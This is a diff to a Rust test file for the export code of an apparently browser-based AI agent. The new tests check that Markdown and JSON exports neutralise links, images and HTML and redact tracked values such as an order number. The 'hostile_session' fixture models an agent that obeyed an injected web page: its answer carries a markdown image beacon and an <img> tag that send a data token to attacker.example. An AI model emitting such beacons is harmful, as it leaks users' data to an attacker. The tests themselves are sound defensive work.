@@ -2,7 +2,7 @@
 
 use super::*;
 use crate::agent::TaskOutcome;
-use crate::protocol::ExportFormat;
+use crate::protocol::{ExportFormat, TrackedValues};
 
 /// A finished task whose answer mentions `finding`.
 pub(crate) fn record(turn: u32, task: &str, finding: &str) -> TaskRecord {
@@ -419,16 +419,55 @@ fn markdown_has_every_task_summary_data_and_a_follow_up_prompt() {
     let mut s = session_of(2);
     s.records[0].task = "Fill the name\nfield".into();
     s.set_title("Items", 2, false);
-    let md = to_markdown(&s, 0.0);
+    let md = to_markdown(&s, 0.0, TrackedValues::Include);
     assert!(md.starts_with("# Items\n"), "{md}");
     assert!(md.contains("## Contents\n\n1. Task number 1\n2. Task number 2"), "{md}");
     assert!(md.contains("## Task 1: Fill the name field"), "{md}");
     assert!(md.contains("- Summary: Found item 1."), "{md}");
     assert!(md.contains("- Result: Found item 1. More detail follows here."), "{md}");
-    assert!(md.contains("- **finding_2**: Found item 2"), "{md}");
+    assert!(md.contains("- **finding\\_2**: Found item 2"), "{md}");
     assert!(md.contains("## Suggested follow-up"), "{md}");
     assert!(md.contains("```text\nI used the Waymark browser agent"), "{md}");
     assert!(md.contains("session titled \"Items\""), "{md}");
+}
+
+/// A session whose answer (a model obeying a page) carries an image beacon, a link, markdown
+/// and HTML, and an order number read on the shop.
+fn hostile_session() -> Session {
+    let mut s = session_of(1);
+    let r = &mut s.records[0];
+    r.answer =
+        "Done ![x](https://attacker.example/?d=Q7ZK3XR91MPL2WQ8) see [docs](https://docs.example) \
+                <img src=https://attacker.example/p.gif>\n# Injected heading\n```\ncode"
+            .into();
+    r.structured_data.insert("order".into(), "55512345".into());
+    r.provenance.insert("55512345".into(), vec!["https://shop.example".into()]);
+    s
+}
+
+#[test]
+fn markdown_exports_are_inert_and_redact_tracked_values_by_default() {
+    let s = hostile_session();
+    let md = to_markdown(&s, 0.0, TrackedValues::default());
+    assert!(!md.contains("!["), "no image syntax: {md}");
+    assert!(!md.contains("](http"), "no link syntax: {md}");
+    assert!(!md.replace("\\<", "").contains('<'), "no raw HTML: {md}");
+    assert!(!md.contains("\n# Injected"), "no injected heading: {md}");
+    assert!(md.contains("docs \\(link: `https://docs.example`\\)"), "{md}");
+    assert!(md.contains("`https://attacker.example/?d=[redacted]`"), "{md}");
+    assert!(!md.contains("55512345") && !md.contains("Q7ZK3XR91MPL2WQ8"), "{md}");
+    let included = to_markdown(&s, 0.0, TrackedValues::Include);
+    assert!(included.contains("55512345"), "the user chose to include them: {included}");
+    assert!(!included.contains("!["), "still inert: {included}");
+}
+
+#[test]
+fn json_exports_redact_tracked_values_by_default() {
+    let s = hostile_session();
+    let json = to_json(&s, 0.0, TrackedValues::default()).expect("json");
+    assert!(!json.contains("55512345") && !json.contains("Q7ZK3XR91MPL2WQ8"), "{json}");
+    let included = to_json(&s, 0.0, TrackedValues::Include).expect("json");
+    assert!(included.contains("55512345"), "{included}");
 }
 
 #[test]
@@ -436,7 +475,8 @@ fn json_export_has_the_same_content() {
     let mut s = session_of(2);
     s.set_title("Items", 2, false);
     let json: serde_json::Value =
-        serde_json::from_str(&to_json(&s, 0.0).expect("json")).expect("parse");
+        serde_json::from_str(&to_json(&s, 0.0, TrackedValues::Include).expect("json"))
+            .expect("parse");
     assert_eq!(json["format"], "waymark-session");
     assert_eq!(json["title"], "Items");
     assert_eq!(json["tasks"].as_array().map(Vec::len), Some(2));
